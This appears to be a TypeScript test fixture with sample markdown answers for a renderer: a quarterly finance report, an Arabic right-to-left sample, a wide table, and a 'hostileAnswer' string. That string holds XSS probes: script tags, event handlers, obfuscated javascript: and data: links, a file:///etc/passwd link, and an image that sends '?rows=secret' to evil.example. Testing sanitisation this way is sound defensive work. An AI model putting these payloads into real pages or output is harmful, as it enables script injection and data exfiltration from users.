export const financeAnswer = `## Revenue in the first quarter

Revenue grew **12.4 %** to \`€4.2M\`, mostly through *repeat customers*. **North** led, see the [method](https://example.com/method) and the note[^1].

1. North passed its target in every month.
2. South recovered after a weak January.
   - Online orders rose by 18 %.
   - Stores stayed flat.
3. ~~West~~ was merged into North.

### By region

| Region | Orders | Revenue | Change |
|:-------|-------:|--------:|:------:|
| North  |  1,204 | 1,820,400 | +14 % |
| South  |    988 | 1,310,250 | +9 % |
| East   |    702 | 1,071,900 | +13 % |

> Figures exclude returns that were not booked by 31 March.

The query behind it:

\`\`\`sql
SELECT region, count(*) AS orders, sum(revenue) AS revenue
FROM orders
WHERE ordered_at >= date '2026-01-01' AND ordered_at < date '2026-04-01'
GROUP BY region
ORDER BY revenue DESC;
\`\`\`

#### Next steps

- [x] Check the returns
- [ ] Compare with the plan

---

Ask for a [forecast][later] next.

[later]: https://example.com/forecast "Forecast"
[^1]: Booked revenue, net of discounts.
`;

export const hostileAnswer = `# <script>alert(1)</script>

<img src="https://evil.example/steal.png" onerror="alert(1)">

<iframe src="https://evil.example"></iframe> and <a href="javascript:alert(1)" onclick="alert(2)">raw link</a>

[script](javascript:alert(1)), [shouting](JaVaScRiPt:alert(1)), [tabbed](java&#9;script:alert(1)), [newline](<java
script:alert(1)>), [data](data:text/html,<script>alert(1)</script>), [file](file:///etc/passwd), [relative](/logout), [protocol-relative](//evil.example), [vbscript](vbscript:x)

Autolinks: <javascript:alert(1)> <data:text/html,x> www.example.com https://example.com/ok person@example.com

![a chart](https://evil.example/pixel.png?rows=secret) ![](https://evil.example/empty.png) ![ref][pixel]

[pixel]: https://evil.example/ref.png

[ok](https://example.com "A \\" onmouseover=alert(1)")
`;

export const arabicAnswer = `## الإيرادات في الربع الأول

ارتفعت الإيرادات **12.4 %** لتبلغ \`€4.2M\`، بفضل العملاء الدائمين.

- الشمال: 1,820,400
- الجنوب: 1,310,250

This paragraph is English and reads from left to right.

| المنطقة | الطلبات |
|:--|--:|
| الشمال | 1,204 |
| الجنوب | 988 |

\`\`\`sql
SELECT region, sum(revenue) FROM orders GROUP BY region;
\`\`\`
`;

export const longTable = `| ${Array.from({ length: 14 }, (_, index) => `Month ${index + 1}`).join(' | ')} |
|${' --: |'.repeat(14)}
| ${Array.from({ length: 14 }, (_, index) => (index * 13_337).toLocaleString('en')).join(' | ')} |
`;
